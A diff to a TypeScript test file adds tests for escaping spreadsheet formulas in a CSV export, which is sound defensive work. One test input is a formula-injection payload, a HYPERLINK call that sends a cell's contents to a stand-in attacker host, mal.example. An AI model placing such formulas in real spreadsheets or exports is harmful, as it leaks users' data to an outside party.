@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { toCsv, toImportLines } from './csv.ts';
+import { spreadsheetText, toCsv, toImportLines } from './csv.ts';
 
 const columns = [
   { header: 'Nome', value: (row: { name: string; note: string }) => row.name },
@@ -18,6 +18,25 @@ describe('toCsv', () => {
 
   test('an empty list still has the header', () => {
     expect(toCsv(columns, [])).toBe('\uFEFFNome;Nota\r\n');
+  });
+
+  test('a field a spreadsheet would run as a formula is written as text', () => {
+    const csv = toCsv(columns, [{ name: '=HYPERLINK("https://mal.example/?"&A2;"Abrir")', note: '@SUM(A1)' }]);
+    expect(csv).toBe('\uFEFFNome;Nota\r\n"\'=HYPERLINK(""https://mal.example/?""&A2;""Abrir"")";\'@SUM(A1)\r\n');
+  });
+});
+
+describe('spreadsheetText', () => {
+  test('guards every start a spreadsheet reads as a formula', () => {
+    for (const cell of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '-', '+55 11 98765-4321']) {
+      expect(spreadsheetText(cell)).toBe(`'${cell}`);
+    }
+  });
+
+  test('keeps numbers as the exports write them, and ordinary text, as they are', () => {
+    for (const cell of ['-12,5', '150,00', '1.234,00', '-3%', '+2,5%', '0', 'Ana Clínica', '18/11/2026', '']) {
+      expect(spreadsheetText(cell)).toBe(cell);
+    }
   });
 });
 
